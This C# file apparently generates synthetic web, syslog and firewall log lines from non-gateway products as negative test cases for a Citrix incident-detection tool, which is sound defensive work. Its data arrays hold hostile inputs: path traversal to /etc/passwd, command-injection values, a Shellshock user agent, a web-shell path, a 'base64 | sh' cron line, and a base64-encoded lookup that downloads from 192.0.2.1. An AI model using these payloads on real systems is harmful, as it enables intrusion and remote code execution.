using System;
using System.Collections.Generic;
using System.Globalization;
using System.Linq;

namespace CitrixOps.SampleCases.Ordinary;

/// <summary>The logs of products that are no gateway, with what is tried on those products: none of it is an attack on a gateway.</summary>
public static class OtherProducts
{
    private static readonly string[] Paths =
    [
        "/index.php?page=2", "/wp-login.php", "/owa/auth/logon.aspx", "/api/v1/items?q=a%20b", "/remote/login?lang=nl", "/dana-na/auth/url_default/welcome.cgi", "/static/..%20x.js", "/caf%C3%A9/menu", "/vpn-client/download.html", "/.well-known/acme-challenge/x",
        "/cgi-bin/.%2e/%2e%2e/%2e%2e/%2e%2e/bin/sh", "/public/plugins/grafana/../../../../../etc/passwd", "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/x", "/php/utils/x.php/watchTowr.js.map",
        "/solr/admin/info?q=$%7Bx%7D", "/actuator/gateway/routes", "/boaform/admin/formLogin?a=;fetch+x", "/cgi-bin/luci/;stok=/locale?country=$(id%3E%60)", "/themes/info.php", "/blog/wp-content/themes/shell.php", "/portal/scripts/menu.pl", "/a.pl?x=.xml", "/saml/login", "/app/login",
    ];

    private static readonly string[] Agents = ["Mozilla/5.0 (X11; Linux x86_64)", "x:lookup/Basic/Command/Base64/KGN1cmwgLXMgMTkyLjAuMi4xL2F8fHdnZXQgLXEgMTkyLjAuMi4xL2Ep", "curl/8.5.0", "Go-http-client/1.1", "() { :; }; /usr/bin/id", "python-requests/2.31"];

    /// <summary>The lines, by seed.</summary>
    /// <param name="seed">The seed.</param>
    public static IEnumerable<string> Lines(int seed)
    {
        var random = new Random(seed);
        T Pick<T>(params T[] values) => values[random.Next(values.Length)];
        return Enumerable.Range(0, 4000).Select(i =>
        {
            var time = new DateTimeOffset(2026, 3, 1, 0, 0, 0, TimeSpan.Zero).AddMinutes(i * 11);
            var (client, syslog, pid, path) = ("198.51.100." + random.Next(20, 250).ToString(CultureInfo.InvariantCulture), Stamps.Syslog(time), random.Next(9999), Pick(Paths));
            return (i % 20) switch
            {
                0 or 1 or 2 or 3 => $"{client} - - [{Stamps.Access(time)}] \"{Pick("GET", "GET", "POST")} {path} HTTP/1.1\" {Pick(200, 200, 200, 404)} {random.Next(9999)} \"https://www.example/\" \"{Pick(Agents)}\"",
                4 => $"{time:yyyy-MM-dd HH:mm:ss} 10.0.0.4 GET {path} - 443 - {client} {Pick(Agents).Replace(' ', '+')} - 200 0 0 15",
                5 => $"{syslog} lb01 haproxy[{pid}]: {client}:4011 [{time:dd/MMM/yyyy:HH:mm:ss.fff}] fe_web~ be_web/web01 0/0/1/9/10 200 1234 - - ---- 9/9/0/0/0 0/0 \"GET {path} HTTP/1.1\"",
                6 => $"{syslog} web01 nginx[{pid}]: {time:yyyy/MM/dd HH:mm:ss} [error] 812#812: *7 open() \"/usr/share/nginx/html{path}\" failed (2: No such file or directory), client: {client}, server: _, request: \"GET {path} HTTP/1.1\"",
                7 => $"[{Stamps.Error(time)}] [error] [client {client}:4711] File does not exist: /var/www/html/wp-login.php",
                8 => $"{syslog} web01 sshd[{pid}]: Failed password for {Pick("root", "invalid user `id`", "nobody")} from {client} port 4022 ssh2",
                9 => $"{syslog} mail01 postfix/smtpd[{pid}]: connect from unknown[{client}]",
                10 => $"{syslog} web01 systemd[1]: Started Session {i} of user backup.",
                11 => $"{syslog} web01 CRON[{pid}]: ({Pick("root", "www-data", "nobody")}) CMD ({Pick("[ -x /usr/lib/php/sessionclean ] && /usr/lib/php/sessionclean", "curl -fsS https://check.example/1", "cd /var/tmp && ./job.sh", "/usr/bin/python3 /opt/x/scan.py", "base64 -d /opt/x | sh")})",
                12 => $"{syslog} db01 CROND[{pid}]: ({Pick("root", "nobody")}) CMD (run-parts /etc/cron.hourly)",
                13 => $"{syslog} web01 sudo:   jan : TTY=pts/0 ; PWD=/home/jan ; USER=root ; COMMAND=/usr/bin/rm -rf /var/log/nginx/old",
                14 => $"{syslog} web01 kernel: [{pid}.1] audit: type=1400 apparmor=\"DENIED\" operation=\"open\" name=\"/etc/shadow\" comm=\"curl\"",
                15 => $"{syslog} esx01 shell[{pid}]: [root]: esxcli system version get",
                16 => $"{syslog} fw02 filterlog[{pid}]: 4,,,1000000103,igb0,match,block,in,4,0x0,,64,1,0,DF,6,tcp,60,{client},203.0.113.9,4011,445,0,S,1,,64240,,mss",
                17 => $"{syslog} dns01 named[{pid}]: client @0x7f {client}#4011 (www.example): query: www.example IN A +E(0)K (10.0.0.4)",
                18 => $"{time:yyyy-MM-ddTHH:mm:ssZ} dc01 MSWinEventLog 1 Security {pid} 4625 An account failed to log on. Account Name: {Pick("admin", "pitboss", "support1")} Source Network Address: {client}",
                _ => $"{syslog} app01 java[{pid}]: WARN o.a.tomcat.util.http.Parameters - Invalid chunk ';' {path} ignored",
            };
        });
    }
}
